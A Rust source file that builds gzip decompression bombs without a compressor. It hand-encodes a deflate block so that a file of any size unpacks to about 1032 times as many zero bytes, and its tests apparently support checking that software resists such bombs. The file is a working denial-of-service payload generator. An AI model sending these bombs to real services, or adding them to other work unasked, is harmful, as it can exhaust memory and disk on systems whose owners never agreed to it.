//! A gzip bomb, built without a compressor.

use bytes::{Bytes, BytesMut};

/// Method deflate, no name, no time, unknown system.
const GZIP_HEAD: [u8; 10] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF];
/// The longest match deflate knows.
const LONGEST_MATCH: u64 = 258;
/// Matches that fit into one compressed byte here.
const MATCHES_PER_BYTE: u64 = 4;

/// A valid gzip file of about `compressed` bytes that unpacks to 1032 times as many zero bytes.
///
/// # Why
/// One dynamic Huffman block gives the match of length 258 and the distance 1 one bit each, and both bits are
/// zero: the middle of the file is zero bits and needs no encoder.
#[must_use]
pub fn gzip_zeros(compressed: usize) -> Bytes {
    let matches = (compressed as u64).saturating_mul(MATCHES_PER_BYTE);
    let mut deflate = Bits::default();
    open_block(&mut deflate);
    deflate.put(0b01, 2); // the literal 0, which every match then repeats
    deflate.zeros(matches.saturating_mul(2));
    deflate.put(0b11, 2); // end of block
    let size = matches.saturating_mul(LONGEST_MATCH).saturating_add(1);
    let mut file = BytesMut::with_capacity(deflate.bytes.len().saturating_add(18));
    file.extend_from_slice(&GZIP_HEAD);
    file.extend_from_slice(&deflate.bytes);
    file.extend_from_slice(&crc32_of_zeros(size).to_le_bytes());
    // By its definition the length is told modulo 2^32.
    file.extend_from_slice(
        &u32::try_from(size & 0xFFFF_FFFF)
            .unwrap_or_default()
            .to_le_bytes(),
    );
    file.freeze()
}

/// The block's header (RFC 1951, 3.2.7): two bits each for literal 0 and end of block, one for the match.
fn open_block(deflate: &mut Bits) {
    deflate.put(1, 1); // last block
    deflate.put(2, 2); // dynamic codes
    deflate.put(286 - 257, 5); // literal and length codes
    deflate.put(0, 5); // one distance code
    deflate.put(18 - 4, 4); // code length codes, in the order 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] {
        deflate.put(length, 3);
    }
    // Of which follow: 18 (a run of zeros) is `0`, 1 is `10`, 2 is `11`, each sent from its first bit on.
    let run = |deflate: &mut Bits, zeros: u32| {
        deflate.put(0, 1);
        deflate.put(zeros.saturating_sub(11), 7);
    };
    deflate.put(0b11, 2); // literal 0: two bits
    run(deflate, 138);
    run(deflate, 117); // literals 1 to 255: none
    deflate.put(0b11, 2); // end of block: two bits
    run(deflate, 28); // lengths 3 to 257: none
    deflate.put(0b01, 2); // length 258: one bit
    deflate.put(0b01, 2); // distance 1: one bit
}

/// Bits in deflate's order, the lowest of each byte first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    length: u64,
}

impl Bits {
    fn put(&mut self, value: u32, count: u32) {
        for place in 0..count {
            let bit = u8::from(value >> place & 1 == 1);
            let shift = self.length % 8;
            self.zeros(1);
            if let Some(last) = self.bytes.last_mut() {
                *last |= bit << shift;
            }
        }
    }

    fn zeros(&mut self, count: u64) {
        self.length = self.length.saturating_add(count);
        self.bytes
            .resize(usize::try_from(self.length.div_ceil(8)).unwrap_or(0), 0);
    }
}

/// The reflected polynomial of CRC-32.
const POLYNOMIAL: u32 = 0xEDB8_8320;
/// x⁰ and x⁸ in the reflected form, where the highest bit is the lowest power.
const ONE: u32 = 1 << 31;
const X_TO_THE_8: u32 = 1 << 23;

/// CRC-32 of that many zero bytes, in the time of its logarithm: each byte multiplies the register by x⁸.
fn crc32_of_zeros(count: u64) -> u32 {
    let (mut power, mut square, mut left) = (ONE, X_TO_THE_8, count);
    while left > 0 {
        if left & 1 == 1 {
            power = multiply(power, square);
        }
        square = multiply(square, square);
        left >>= 1;
    }
    !multiply(power, u32::MAX)
}

/// The product of two polynomials modulo [`POLYNOMIAL`].
fn multiply(left: u32, mut right: u32) -> u32 {
    let mut product = 0;
    for place in (0..32).rev() {
        if left >> place & 1 == 1 {
            product ^= right;
        }
        right = if right & 1 == 1 {
            (right >> 1) ^ POLYNOMIAL
        } else {
            right >> 1
        };
    }
    product
}

#[cfg(test)]
mod tests {
    use super::*;

    fn crc32(data: &[u8]) -> u32 {
        !data.iter().fold(u32::MAX, |crc, byte| {
            (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
                if crc & 1 == 1 {
                    crc >> 1 ^ POLYNOMIAL
                } else {
                    crc >> 1
                }
            })
        })
    }

    #[test]
    fn the_checksum_of_zeros_is_that_of_the_plain_algorithm() {
        for count in [0, 1, 2, 255, 4129] {
            assert_eq!(
                crc32_of_zeros(count as u64),
                crc32(&vec![0; count]),
                "{count}"
            );
        }
    }

    #[test]
    fn p33_a_small_bomb_is_the_file_that_gzip_was_seen_to_accept() {
        let file = b"\x1f\x8b\x08\0\0\0\0\0\0\xff\xed\xc0\x81\0\0\0\0\x80\xa0\xfd\xa9\x17\xa9\0\0\0\0\x06\xf3r\xfb\xab!\x10\0\0";
        assert_eq!(
            gzip_zeros(4),
            file.as_slice(),
            "`gzip -dc` unpacked this to 4129 zero bytes"
        );
    }

    #[test]
    fn p33_a_megabyte_stands_for_a_gigabyte() {
        let bomb = gzip_zeros(1 << 20);
        assert!(bomb.len() < (1 << 20) + 64, "{}", bomb.len());
        let told = u32::from_le_bytes(bomb[bomb.len() - 4..].try_into().unwrap());
        assert_eq!(u64::from(told), (1_u64 << 20) * 1032 + 1);
    }
}
